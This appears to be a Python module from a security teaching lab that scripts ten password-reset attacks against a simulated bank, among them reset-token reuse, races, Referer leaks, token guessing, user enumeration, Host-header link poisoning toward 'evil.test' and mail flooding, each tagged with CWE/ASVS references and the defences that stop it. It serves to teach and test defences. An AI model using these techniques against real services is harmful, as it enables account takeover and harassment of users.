"""The thefts by reset link (notebook 12): what a mailed link gives away, and to whom.

Every function gets a scene on a bank, and tells what came of it.
"""

import re
import secrets
from collections.abc import Callable, Iterator
from itertools import islice
from threading import Barrier, Thread

from authlab.attacks.attack import Attack
from authlab.attacks.reset_scene import HERS, MINE, ResetScene, referrer, stage_on, token_of
from authlab.attacks.stage import EVIL, HOME, MALLORY
from authlab.bank import Customer
from authlab.bank.customer import read_link
from authlab.web import Browser, origin_of

__all__ = ["ATTACKS"]

PHONE = "192.0.2.11"  # Alice's second device
_MANY = 20  # mails
_MOST_GUESSES = 1_000


def reuse(scene: ResetScene) -> tuple[str, str]:
    """Find a link that Alice has used, in her browser's history or her mail archive."""
    link = scene.get_link()
    if scene.alice.follow(link, HERS).status != 200:
        return "", "Alice's own link did not work."
    scene.say("alice", "thief", "a used link, from her browser's history", link)
    return scene.use(token_of(link)), "The bank did not take a link that Alice had used."


def stale(scene: ResetScene) -> tuple[str, str]:
    """Find a link that Alice never used: she asked twice, and took the other mail."""
    old, link = scene.get_link(), scene.get_link()
    if not old or not link or scene.alice.follow(link, HERS).status != 200:
        return "", "The bank sent no two links that work."
    scene.say("alice", "thief", "an older link, from her mail archive", old)
    loot = scene.use(token_of(old))
    return loot, "The older link died when Alice used the newer one."


def race(scene: ResetScene) -> tuple[str, str]:
    """Use a link at the very moment at which Alice uses it."""
    link = scene.get_link()
    page = scene.alice.page = scene.alice.browser.goto(link)
    token, start = read_link(page) or token_of(link), Barrier(2)
    took: list[str] = []

    def press(who: str) -> None:
        start.wait(10)
        if who == "alice":
            data = {"token": token, "new": HERS}
            status = scene.alice.call("/reset/confirm", data).status
        else:
            data = {"token": token, "new": MINE}
            status = scene.ask("/reset/confirm", data=data).status_code
        if status == 200:
            took.append(who)

    threads = [Thread(target=press, args=[who], daemon=True) for who in ("alice", "mallory")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    if len(took) == 2:
        return "set a password with the link that set one for Alice at the same moment", ""
    return "", f"Of two at once, the bank took {len(took)}."


def leak(scene: ResetScene) -> tuple[str, str]:
    """Own a picture in the page that the link opens, and read the Referer it is asked for with."""
    page = scene.alice.browser.goto(scene.get_link())
    shown = re.findall(r'<img[^>]* src="([^"]+)"', page.text)
    allowed = page.headers.get("Content-Security-Policy", "").split(";")[0].split()
    for picture in shown:
        if origin_of(picture) not in allowed:
            return "", "The page's Content-Security-Policy does not let the picture load."
        named = referrer(page, picture)
        scene.say("alice", "thief", f"GET {picture}", f"Referer: {named or '(none)'}")
        loot = scene.use(token_of(named)) if named else ""
        if loot:
            return loot, ""
    return (
        "",
        "The page told no other site where Alice was."
        if shown
        else "The page shows nobody's picture.",
    )


def guess(scene: ResetScene) -> tuple[str, str]:
    """Ask for a link for Alice and for one of her own, and count from there."""
    scene.get_link()
    mine = token_of(scene.get_link("mallory"))
    if not mine:
        return "", "The bank mailed Mallory no link to count from."
    tried = 0
    with scene.quietly():
        for code in islice(_guesses(mine), _MOST_GUESSES):
            loot = scene.use(code)
            if scene.answered == 429:
                return "", f"After {tried} guesses the bank took no more."
            tried += 1
            if loot:
                break
    if not loot:
        return "", f"{tried:,} guesses made: none was Alice's link."
    scene.say("thief", "bank", f"guess {tried} is right", code)
    return loot, ""


def enumerate_customers(scene: ResetScene) -> tuple[str, str]:
    """Ask for a link in two names, one of a customer, and compare what the bank answers."""
    nobody = f"nobody-{secrets.token_hex(3)}"
    with scene.network.session(address=MALLORY) as session:
        replies = [session.post(f"{HOME}/reset", json={"user": n}) for n in ("alice", nobody)]
    known, unknown = ((r.status_code, r.text, sorted(r.headers)) for r in replies)
    if known != unknown:
        return f"learnt that alice is a customer, and {nobody} is not", ""
    return "", "The bank answered the same for a customer and for nobody."


def survive(scene: ResetScene) -> tuple[str, str]:
    """Have a copy of Alice's log-in, and keep it when she sets a new password because of that."""
    scene.alice.open()
    scene.alice.log_in()
    copies = scene.copy_from_alice()
    for credential in copies:
        detail = f"{credential.header}: {credential.value}"
        scene.say("alice", "thief", "malware copies the credential", detail)
    elsewhere = Customer("alice", Browser(scene.network, scene.clock, address=PHONE))
    if elsewhere.follow(scene.get_link(), HERS).status != 200:
        return "", "Alice's own link did not work."
    scene.say("alice", "bank", "sets a new password, on her phone")
    loot = next(filter(None, map(scene.spend, copies)), "")
    return loot, "The bank did not take the copy once Alice had a new password."


def skip(scene: ResetScene) -> tuple[str, str]:
    """Read Alice's mail, but not her phone."""
    if scene.factor is None or not scene.factor.wants("alice"):
        return "", "This bank has no second factor to skip."
    link = scene.get_link()
    scene.say("alice", "thief", "Mallory reads Alice's mail", link)
    loot = scene.use(token_of(link))
    inside = "balance" in loot
    return (loot if inside else ""), "The bank asked for the code, which is on Alice's phone."


def poison(scene: ResetScene) -> tuple[str, str]:
    """Ask in Alice's name with a Host header of Mallory's, and wait for Alice to click."""
    link = scene.get_link(Host="evil.test")
    if not link.startswith(EVIL):
        return "", "The link leads to the bank, whatever Host the request named."
    page = scene.alice.browser.goto(link)
    seen = scene.alice.browser.run_script(page, lambda window: window.location)
    scene.say("alice", "thief", "opens Mallory's page, whose script reads the address", seen)
    return scene.use(token_of(seen)), "The bank did not take what Mallory read."


def flood(scene: ResetScene) -> tuple[str, str]:
    """Have the bank send Alice mail after mail."""
    before = len(scene.reset.mailbox.of("alice"))
    with scene.quietly():
        for _ in range(_MANY):
            scene.ask("/reset", data={"user": "alice"})
    came = len(scene.reset.mailbox.of("alice")) - before
    scene.say("thief", "bank", f"asks {_MANY} times", f"{came} mails to Alice")
    if came == _MANY:
        return f"had the bank send Alice {came} mails", ""
    return "", f"Mallory asked {_MANY} times, and Alice got {came} mails."


def _guesses(mine: str) -> Iterator[str]:
    """Yield what Alice's may be: all short numbers, those before a longer one, or random text."""
    if not (mine.isascii() and mine.isdigit()):
        yield from (secrets.token_urlsafe(32) for _ in range(50))
    elif len(mine) < 5:
        yield from (f"{number:0{len(mine)}}" for number in range(10 ** len(mine)))
    else:
        yield from (f"{int(mine) - step:0{len(mine)}}" for step in range(1, _MOST_GUESSES + 1))


def _attack(
    act: Callable[[ResetScene], tuple[str, str]],
    title: str,
    needs: str,
    stopped_by: tuple[str, ...],
    refs: tuple[str, ...],
) -> Attack:
    id = f"reset-{act.__name__.partition('_')[0]}"
    return Attack(id, title, needs, stopped_by, refs, stage_on(act, id), target="reset")


ATTACKS = [
    _attack(
        reuse,
        "Use a reset link again",
        "a link that Alice has used, from her browser's history or her mail archive",
        ("once", "bound"),
        ("CWE-640", "CWE-294", "ASVS 6.5.1"),
    ),
    _attack(
        stale,
        "Use an older reset link",
        "a link that Alice did not use, because she used another",
        ("bound",),
        ("CWE-640", "CWE-613", "ASVS 6.4.1"),
    ),
    _attack(
        race,
        "Use a reset link at the same moment",
        "a copy of the link, and Alice's timing",
        ("once", "bound"),
        ("CWE-367", "ASVS 6.5.1"),
    ),
    _attack(
        leak,
        "Read the reset link in a Referer",
        "a picture of hers in the page that the link opens",
        ("fragment", "referrer"),
        ("CWE-598", "ASVS 14.2.1", "ASVS 3.4.5"),
    ),
    _attack(
        guess,
        "Guess the reset link",
        "an account of her own",
        ("random",),
        ("CWE-640", "CWE-340", "ASVS 6.5.3"),
    ),
    _attack(
        enumerate_customers,
        "Ask who is a customer",
        "names to try",
        ("answer",),
        ("CWE-204", "ASVS 6.3.8"),
    ),
    _attack(
        survive,
        "Outlive the reset",
        "a copy of Alice's log-in, from before she set a new password",
        ("end",),
        ("CWE-613", "ASVS 7.4.3"),
    ),
    _attack(
        skip,
        "Skip the second factor by a reset",
        "Alice's mail, and not her phone",
        ("factor",),
        ("CWE-640", "CWE-308", "ASVS 6.4.3"),
    ),
    _attack(
        poison,
        "Poison the mailed link",
        "Alice clicks on a link in the bank's own mail",
        ("site",),
        ("CWE-640", "CWE-644"),
    ),
    _attack(
        flood,
        "Flood Alice's mailbox",
        "nothing",
        ("limit",),
        ("CWE-799", "ASVS 2.4.1"),
    ),
]
